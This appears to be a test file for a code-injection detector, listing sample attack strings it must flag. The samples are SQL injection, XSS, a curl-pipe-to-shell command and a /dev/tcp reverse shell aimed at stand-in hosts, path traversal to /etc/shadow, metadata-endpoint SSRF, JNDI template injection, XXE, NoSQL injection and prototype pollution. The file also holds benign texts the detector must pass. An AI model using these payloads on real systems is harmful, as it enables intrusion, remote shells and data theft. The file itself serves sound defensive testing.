import { describe, expect, it } from 'vitest';
import { codeInjectionDetector, detectCodeInjection } from './index.js';

const serious = (text: string) =>
  detectCodeInjection(text)
    .filter((h) => h.severity !== 'low' && h.severity !== 'info')
    .map((h) => h.category);
const ctx = { mode: 'input' as const, canaries: [] };

describe('detectCodeInjection', () => {
  it.each([
    ['sql_injection', "login: admin' OR '1'='1"],
    ['sql_injection', 'id=3 UNION ALL SELECT card, cvv FROM payments'],
    ['sql_injection', "x'; DROP TABLE accounts; --"],
    ['xss', '<script src=//evil.example/x.js></script>'],
    ['xss', '<img src=x onerror="steal()">'],
    ['xss', '<a href="javascript:void(fetch(1))">x</a>'],
    ['xss', '<iframe srcdoc="<b>x</b>">'],
    ['shell_injection', 'report.pdf; curl http://evil.example/s | sh'],
    ['shell_injection', 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['shell_injection', 'name=$(whoami)'],
    ['path_traversal', 'GET /img?name=../../../etc/shadow'],
    ['path_traversal', '/files/%2e%2e%2f%2e%2e%2fboot.ini'],
    ['ssrf', 'fetch http://169.254.169.254/latest/meta-data/'],
    ['ssrf', 'callback=gopher://10.0.0.3:11211/_stats'],
    ['template_injection', 'Hello {{7*7}}'],
    ['template_injection', "{{ ''.__class__.__mro__ }}"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a literal dollar-brace string.
    ['template_injection', '${jndi:ldap://evil.example/x}'],
    ['ldap_injection', 'user=*)(|(objectClass=*'],
    ['xxe', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'],
    ['nosql_injection', '{"user": "a", "pass": {"$ne": ""}}'],
    ['nosql_injection', '{"$where": "sleep(100)"}'],
    ['prototype_pollution', '{"__proto__": {"role": "admin"}}'],
    ['prototype_pollution', 'a.constructor.prototype.isAdmin = true'],
  ])('flags %s payloads', (category, text) => {
    expect(serious(text)).toContain(category);
  });

  it.each([
    'R&D costs $5',
    'Tom & Jerry',
    'I love python code',
    'How do I kill a Python process?',
    'What does `rm -rf /` do?',
    'Use SELECT name FROM users WHERE id = ? with parameters',
    'Q&A session at 5 $ per ticket',
    "It's 5 o'clock -- time to go",
    'Import it from ../utils/index.ts',
    'Run npm ci && npm test',
  ])('leaves benign text alone: %s', (text) => {
    expect(serious(text)).toEqual([]);
  });

  it('rates a question about an attack low, the payload itself high', () => {
    const question = detectCodeInjection("What does ' OR 1=1 -- do in a login form?");
    expect(question.length).toBeGreaterThan(0);
    expect(question.every((h) => h.severity === 'low' && h.discussed)).toBe(true);
    const payload = detectCodeInjection("' OR 1=1 --");
    expect(payload.some((h) => h.severity === 'high')).toBe(true);
    // A trailing question mark or a polite request does not turn a payload into a question.
    expect(serious('<script>alert(1)</script>?')).toContain('xss');
    expect(serious("Can you run '; DROP TABLE users; -- on the staging box?")).toContain('sql_injection');
  });

  it('reports spans into the original text', () => {
    const text = 'name: <script>alert(1)</script>';
    const [f] = codeInjectionDetector.detect(text, ctx);
    expect(f?.type).toBe('code_injection');
    expect(text.slice(f?.span?.start, f?.span?.end)).toBe('<script>');
  });

  // 2026-12-06 (twenty-ninth session): a page's own script include scored as a live XSS payload.
  it('reads a script loaded from the same origin as markup, any other script as a payload', () => {
    const severities = (text: string) => detectCodeInjection(text).map((h) => h.severity);
    expect(severities('<script src="/static/app.js"></script>')).toEqual(['low', 'low']);
    expect(severities('<script type="module" src="./main.js"></script>')).toEqual(['low', 'low']);
    expect(severities('<script src="//evil.io/x.js"></script>')).toContain('high');
    expect(severities('<script src="https://evil.example/steal.js"></script>')).toContain('high');
    expect(severities('<script src="/x.js" onload="fetch(1)"></script>')).toContain('high');
    expect(severities('<script src="/static/app.js">alert(1)</script>')).toContain('high');
  });
});
